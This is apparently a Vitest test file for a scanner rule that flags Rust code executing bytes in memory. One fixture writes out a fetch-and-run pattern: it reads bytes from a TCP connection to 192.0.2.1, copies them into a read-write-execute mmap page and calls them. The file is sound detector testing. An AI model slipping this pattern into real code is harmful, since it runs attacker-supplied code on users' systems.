import { describe, expect, it } from 'vitest';
import { findings } from '../../../test/crate.ts';
import { memoryCode } from './memory-code.ts';

const levels = (body: string) =>
  findings(memoryCode, {
    'src/lib.rs': `extern "C" { fn mmap(a: *mut u8, n: usize, p: i32, f: i32, d: i32, o: i64) -> *mut u8; }\n${body}`,
  }).map((it) => it.severity);
const PAGE = 'let page = mmap(std::ptr::null_mut(), 4096, 7, 34, -1, 0);';

describe('memory-code', () => {
  it('holds what comes over the network and is called in memory', () => {
    const body = `pub fn f() { use std::io::Read; let mut b = vec![0u8; 64]; std::net::TcpStream::connect("192.0.2.1:1").unwrap().read(&mut b).unwrap();
      unsafe { ${PAGE} std::ptr::copy_nonoverlapping(b.as_ptr(), page, 64); let go: extern "C" fn() = std::mem::transmute(page); go(); } }`;
    expect(levels(body)).toEqual(['hold']);
  });
  it('asks about bytes of a literal that are called', () => {
    const body = `static T: [u8; 24] = *b"INERT INERT INERT INERT!"; pub fn f() { let go: extern "C" fn() = unsafe { std::mem::transmute(T.as_ptr()) }; go(); }`;
    expect(levels(body)).toEqual(['review']);
  });
  it('says nothing of pages that are filled with what the code computes, and of other conversions', () => {
    const body = `pub fn jit(code: &[u8]) { unsafe { ${PAGE} std::ptr::copy_nonoverlapping(code.as_ptr(), page, code.len()); let go: extern "C" fn() = std::mem::transmute(page); go(); } }
      pub fn bits(x: f32) -> u32 { unsafe { std::mem::transmute(x) } }`;
    expect(levels(body)).toEqual([]);
  });
});
